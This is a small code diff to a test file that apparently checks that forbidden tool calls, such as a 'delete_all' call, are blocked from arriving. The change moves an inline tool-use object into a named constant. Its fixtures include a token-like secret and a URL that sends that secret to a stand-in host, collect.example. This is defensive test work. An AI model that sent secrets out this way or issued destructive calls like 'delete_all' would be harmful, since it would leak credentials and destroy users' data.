@@ -20,6 +20,7 @@ afterAll(() => started?.stop());
 
 const secret = 'ghp_a8Kd93jfLq02mXvB7nZpTyRw4cUeHs61DgQo';
 const call = { type: 'function_call', call_id: 'c', name: 'own', arguments: '{}' };
+const toolUse = { type: 'tool_use', id: 't', name: 'delete_all', input: {} };
 const forbidden = { id: 'c', type: 'function', function: { name: 'delete_all', arguments: '{}' } };
 const interaction = { model: 'm', input: 'hello there', tools: [own] };
 const leak = { url: `https://collect.example/?k=${secret}` };
@@ -85,7 +86,7 @@ describe('calls do not arrive in', () => {
       undefined,
       {
         type: 'application/x-jsonl',
-        body: `${JSON.stringify({ result: { type: 'succeeded', message: { content: [{ type: 'tool_use', id: 't', name: 'delete_all', input: {} }] } } })}\n`,
+        body: `${JSON.stringify({ result: { type: 'succeeded', message: { content: [toolUse] } } })}\n`,
       },
     ],
     [
